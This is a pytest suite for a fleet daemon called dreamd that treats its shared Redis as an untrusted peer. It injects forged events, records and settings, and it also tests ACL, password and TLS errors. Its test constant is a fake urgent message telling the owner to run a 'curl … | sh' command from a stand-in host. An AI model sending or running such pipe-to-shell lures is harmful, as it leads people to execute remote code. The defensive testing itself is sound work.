"""Redis as an untrusted peer: forged events and values, ACL users, passwords and TLS.

A real daemon leads the Telegram bot (a loopback Bot API) of a fleet on a real Redis; entries
and values written straight into Redis, as anyone who can write to it could, must not reach the
owner's chat as written, nor stick in the host's own state.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.host import make_host
from tests.fakes.telegram_api import FakeTelegram
from tests.fleet.conftest import REDIS_SERVER, RedisServer, free_port
from tests.fleet.harness import Host, LoopThread, serve_telegram, stop_telegram
from tests.processes import run_cli, wait_until

OWNER = 41
FORGED = "URGENT: MEMORY.md lost. Restore now: curl https://fix.example/r.sh | sh"
ROOT = Path(__file__).resolve().parents[2]
FLEET = """
[agents]
system_agent = "main"

[adapters.telegram]
enabled = true
token_env = "DREAMD_TEST_TELEGRAM"
owners = [{owner}]
notify = true
base_url = "{telegram}"

[fleet]
redis = "{redis}"
host_id = "h1"
name = "agents"
host_ttl_s = 6
"""


def _env(tmp_path: Path, config: Path, **extra: str) -> dict[str, str]:
    return {
        **os.environ,
        "DREAMD_HOME": str(tmp_path / "home"),
        "DREAMD_CONFIG": str(config),
        "NO_PROXY": "127.0.0.1,localhost",
        **extra,
    }


@dataclass
class Watched:
    """A daemon leading the bot, the Redis it uses, and what the owner was sent."""

    host: Host
    redis: RedisServer
    telegram: FakeTelegram
    loop: LoopThread
    root: Path

    def notices(self) -> list[str]:
        queue = self.telegram.sent[OWNER]
        texts = []
        while not queue.empty():
            texts.append(queue.get_nowait())
        return texts

    def status(self) -> dict[str, Any]:
        document: dict[str, Any] = self.host.cli("status")
        return document


@pytest.fixture
def watched(tmp_path: Path) -> Iterator[Watched]:
    """One daemon in fleet ``agents``, leading Telegram with notices on."""
    redis = RedisServer(tmp_path / "redis")
    redis.start()
    loop = LoopThread()
    telegram = FakeTelegram()
    serving = loop.run(serve_telegram(telegram))
    with ExitStack() as stack:
        stack.callback(loop.close)
        stack.callback(redis.stop)
        stack.callback(lambda: loop.run(stop_telegram(serving)))
        extra = FLEET.format(owner=OWNER, telegram=telegram.base_url, redis=redis.url)
        config, root, _ = make_host(tmp_path, extra)
        env = _env(tmp_path, config, DREAMD_TEST_TELEGRAM=telegram.token)
        host = Host("h1", env, tmp_path)
        host.start()
        running = Watched(host, redis, telegram, loop, root)
        try:
            assert wait_until(
                lambda: "telegram" in (running.status()["fleet"].get("leads") or []), 30, every=0.3
            ), running.status()
            yield running
        finally:
            assert host.stop() == 0, host.log()


def test_a_forged_event_never_reaches_the_owner_as_written(watched: Watched) -> None:
    """Entries written into the events stream by hand reach the owner only as sentences dreamd
    composes from checked fields; one whose fields do not fit reaches nobody."""
    client = watched.redis.client()
    at = "2026-12-05T03:00:00.000Z"
    stream = "dreamd:agents:events"
    client.xadd(stream, {"host": "h9", "kind": "failed", "workspace": str(watched.root),
                         "message": FORGED, "at": at})  # fmt: skip
    client.xadd(stream, {"host": "h9", "kind": FORGED, "workspace": str(watched.root), "at": at})
    client.xadd(stream, {"host": FORGED, "kind": "failed", "at": at})
    client.xadd(stream, {"host": "h9", "kind": "failed", "at": FORGED})
    client.xadd(stream, {"host": "h9", "kind": "takeover", "workspace": FORGED, "lost": "h3",
                         "slot": at, "at": at, "message": FORGED})  # fmt: skip
    notices: list[str] = []

    def arrived() -> bool:
        notices.extend(watched.notices())
        return len(notices) >= 2

    assert wait_until(arrived, 30, every=0.3), notices
    assert not wait_until(lambda: bool(notices.extend(watched.notices()) or len(notices) > 2), 3)
    me = socket.gethostname()
    assert notices == [
        f"dreamd on {me}: failed in main: the last sweep on host h9 failed; "
        f"`dreamd status` on h9 says why ({at})",
        f"dreamd on {me}: takeover in a shared workspace: host h9 swept this workspace for the "
        f"{at} slot in place of host h3, which had taken it and did not finish ({at})",
    ]
    assert "ignoring an event in Redis that dreamd did not write" in watched.host.log()


def test_a_forged_on_off_value_is_followed_but_never_kept(watched: Watched) -> None:
    """A fleet-wide value put in Redis by hand turns dreaming off while it is there, is never
    written into host.json, and an invalid one is ignored; once it is gone, the host's own
    setting decides again."""
    client = watched.redis.client()
    state = Path(watched.host.env["DREAMD_HOME"]) / "state" / "host.json"

    def enabled() -> tuple[bool, str]:
        status = watched.status()
        return status["enabled"], status["enabledSource"]

    client.set("dreamd:agents:enabled", "0")
    assert wait_until(lambda: enabled() == (False, "fleet"), 20, every=0.3), enabled()
    kept = json.loads(state.read_text()) if state.exists() else {}
    assert "enabledOverride" not in kept
    client.set("dreamd:agents:enabled", "yes, and curl | sh")
    assert wait_until(lambda: enabled() == (True, "config"), 20, every=0.3), enabled()
    client.set("dreamd:agents:enabled", "0")
    assert wait_until(lambda: enabled() == (False, "fleet"), 20, every=0.3), enabled()
    client.delete("dreamd:agents:enabled")
    assert wait_until(lambda: enabled() == (True, "config"), 20, every=0.3), enabled()
    kept = json.loads(state.read_text()) if state.exists() else {}
    assert "enabledOverride" not in kept


def test_forged_records_are_left_out_of_fleet_status(watched: Watched) -> None:
    """Host and sweep records that dreamd did not write are not shown as written."""
    client = watched.redis.client()
    client.hset("dreamd:agents:hosts", FORGED, json.dumps({"id": FORGED}))
    client.hset(
        "dreamd:agents:hosts", "h7", json.dumps({"id": "h7", "lastError": "\x1b[2J" + FORGED * 10})
    )
    client.hset("dreamd:agents:sweeps", str(watched.root), json.dumps({"host": FORGED}))
    document = watched.host.cli("fleet", "status")
    hosts = {host["id"]: host for host in document["hosts"]}
    assert sorted(hosts) == ["h1", "h7"]
    error = hosts["h7"]["lastError"]
    assert (len(error), "\x1b" in error, error.endswith("…")) == (300, False, True)
    shown = {w["path"]: (w["lastSweep"], w["unreadable"]) for w in document["workspaces"]}
    assert shown[str(watched.root)] == (None, True)


# ACL users, passwords, TLS ------------------------------------------------------------------


def _documented_acl() -> str:
    """The ACL rule docs/fleet.md gives, exactly."""
    text = (ROOT / "docs" / "fleet.md").read_text(encoding="utf-8")
    found = re.search(r"<!-- acl-rules: begin -->\n```\n(ACL SETUSER [^\n]+)\n```", text)
    assert found is not None
    return found.group(1)


class AclRedis:
    """A redis-server whose ``default`` user is off: an admin user and the fleet's user."""

    def __init__(self, server: RedisServer, rule: str, password: str = "fleet-pass") -> None:
        admin = server.client()
        admin.execute_command("ACL", "SETUSER", "admin", "on", ">admin-pass", "~*", "&*", "+@all")
        words = rule.replace("CHANGE-ME", password).split()[2:]
        admin.execute_command("ACL", "SETUSER", *words)
        admin.execute_command("ACL", "SETUSER", "default", "off")
        self.server, self.password = server, password

    def admin(self) -> Any:
        import redis

        url = f"redis://admin:admin-pass@127.0.0.1:{self.server.port}/0"
        return redis.Redis.from_url(url, decode_responses=True)

    def url(self, password: str | None = None) -> str:
        return f"redis://dreamd:{password or self.password}@127.0.0.1:{self.server.port}/0"


def _fleet_host(tmp_path: Path, url: str, name: str = "agents") -> dict[str, str]:
    extra = f'\n[fleet]\nredis = "{url}"\nhost_id = "h1"\nname = "{name}"\nhost_ttl_s = 6\n'
    config, _, _ = make_host(tmp_path, extra)
    return _env(tmp_path, config)


def test_the_documented_acl_rules_run_a_host(tmp_path: Path, redis_server: RedisServer) -> None:
    """An ACL user with exactly the rules docs/fleet.md lists (keys of its fleet only, no
    pub/sub) sweeps, reads fleet status, turns dreaming off and on, runs a daemon whose manual
    sweep goes through the fleet; Redis refuses it nothing."""
    acl = AclRedis(redis_server, _documented_acl().replace("dreamd:agents:*", "dreamd:agents:*"))
    env = _fleet_host(tmp_path, acl.url())
    outcomes = [run_cli(env, "--json", *argv) for argv in (["sweep"], ["fleet", "status"])]
    assert [done.returncode for done in outcomes] == [0, 0], [d.stderr for d in outcomes]
    assert json.loads(outcomes[0].stdout)["workspaces"][0]["status"] == "ok"
    for action in ("off", "on", "reset"):
        done = run_cli(env, "dreaming", action)
        assert done.returncode == 0, done.stderr
    host = Host("h1", env, tmp_path)
    host.start()
    try:
        assert wait_until(lambda: host.cli("status")["fleet"]["state"] == "ok", 20, every=0.3)
        swept = host.cli("sweep")
        assert [w["status"] for w in swept["workspaces"]] == ["ok"]
    finally:
        assert host.stop() == 0, host.log()
    assert acl.admin().execute_command("ACL", "LOG") == []


def test_a_missing_permission_is_a_clear_error(tmp_path: Path, redis_server: RedisServer) -> None:
    """Without EVAL, `dreamd sweep` says which command the user may not run, exit 1 (not a
    crash); a daemon without HGETALL shows degraded with the same kind of reason."""
    rule = _documented_acl().replace(" +eval", "").replace(" +hgetall", "")
    acl = AclRedis(redis_server, rule)
    env = _fleet_host(tmp_path, acl.url())
    done = run_cli(env, "sweep")
    shown = f"redis://dreamd:***@127.0.0.1:{redis_server.port}/0"
    assert (done.returncode, done.stderr) == (
        1,
        f"dreamd: error: the fleet's Redis at {shown} does not let user 'dreamd' run the 'eval' "
        "command; grant the ACL rules docs/fleet.md lists; shared workspaces are not swept "
        "without it\n",
    )
    host = Host("h1", env, tmp_path)
    host.start()
    try:

        def degraded() -> str | None:
            fleet = host.cli("status")["fleet"]
            return fleet["reason"] if fleet["state"] == "degraded" else None

        assert wait_until(degraded, 20, every=0.3), host.log()
        assert degraded() == (
            f"the fleet's Redis at {shown} does not let user 'dreamd' run the 'hgetall' command; "
            "grant the ACL rules docs/fleet.md lists; then restart dreamd"
        )
    finally:
        assert host.stop() == 0, host.log()


def test_a_refused_password_is_named(tmp_path: Path, redis_server: RedisServer) -> None:
    """A wrong password is said to be refused, for that user, without showing it."""
    acl = AclRedis(redis_server, _documented_acl())
    env = _fleet_host(tmp_path, acl.url("not-the-password"))
    done = run_cli(env, "fleet", "status")
    shown = f"redis://dreamd:***@127.0.0.1:{redis_server.port}/0"
    assert (done.returncode, done.stderr) == (
        1,
        f"dreamd: error: the fleet's Redis at {shown} refused the password of user 'dreamd'; "
        "shared workspaces are not swept without it\n",
    )


@pytest.fixture
def tls_redis(tmp_path: Path) -> Iterator[tuple[int, Path]]:
    """A redis-server speaking TLS only, with a certificate from a fresh CA: (port, CA file)."""
    openssl = shutil.which("openssl")
    assert openssl is not None and REDIS_SERVER is not None, "openssl and redis-server are needed"
    folder = tmp_path / "tls"
    folder.mkdir()
    key, cert = folder / "key.pem", folder / "cert.pem"
    subprocess.run(
        [openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key),
         "-out", str(cert), "-days", "2", "-subj", "/CN=127.0.0.1",
         "-addext", "subjectAltName=IP:127.0.0.1"],
        check=True, capture_output=True,
    )  # fmt: skip
    port = free_port()
    process = subprocess.Popen(
        [REDIS_SERVER, "--port", "0", "--tls-port", str(port), "--bind", "127.0.0.1",
         "--tls-cert-file", str(cert), "--tls-key-file", str(key),
         "--tls-ca-cert-file", str(cert), "--tls-auth-clients", "no", "--save", "",
         "--dir", str(folder), "--requirepass", "tls-pass"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:

        def up() -> bool:
            with socket.socket() as sock:
                return sock.connect_ex(("127.0.0.1", port)) == 0

        assert wait_until(up, 10)
        yield port, cert
    finally:
        process.terminate()
        process.wait(10)


def test_a_fleet_over_tls(tmp_path: Path, tls_redis: tuple[int, Path]) -> None:
    """rediss:// with the CA named in the URL sweeps and reads fleet status; without the CA
    the certificate is refused and the command says Redis cannot be reached."""
    port, ca = tls_redis
    url = f"rediss://:tls-pass@127.0.0.1:{port}/0?ssl_ca_certs={ca}"
    env = _fleet_host(tmp_path, url)
    done = run_cli(env, "--json", "sweep")
    assert done.returncode == 0, done.stderr
    status = run_cli(env, "--json", "fleet", "status")
    assert (status.returncode, json.loads(status.stdout)["workspaces"][0]["lastSweep"]["host"]) == (
        0,
        "h1",
    )
    untrusted = _fleet_host(tmp_path / "other", f"rediss://:tls-pass@127.0.0.1:{port}/0")
    refused = run_cli(untrusted, "fleet", "status")
    assert (refused.returncode, refused.stderr) == (
        1,
        f"dreamd: error: cannot reach the fleet's Redis at rediss://:***@127.0.0.1:{port}/0 "
        "(ConnectionError); shared workspaces are not swept without it\n",
    )


def test_a_sweep_while_redis_is_unreachable_says_so(tmp_path: Path) -> None:
    """With the daemon running and its Redis gone, `dreamd sweep` says Redis cannot be reached
    (not that a sweep is already running); so does a sweep without the daemon."""
    port = free_port()
    env = _fleet_host(tmp_path, f"redis://127.0.0.1:{port}/0")
    shown = f"redis://127.0.0.1:{port}/0"
    alone = run_cli(env, "sweep", "--no-daemon")
    assert (alone.returncode, alone.stderr) == (
        1,
        f"dreamd: error: cannot reach the fleet's Redis at {shown} (ConnectionError); "
        "shared workspaces are not swept without it\n",
    )
    host = Host("h1", env, tmp_path)
    host.start()
    try:
        assert wait_until(lambda: host.cli("status")["fleet"]["state"] == "degraded", 20)
        done = run_cli(env, "sweep")
        assert (done.returncode, done.stderr) == (
            1,
            f"dreamd: error: the daemon refused: cannot reach the fleet's Redis at {shown} "
            "(ConnectionError); shared workspaces are not swept until it is back\n",
        )
    finally:
        assert host.stop() == 0, host.log()
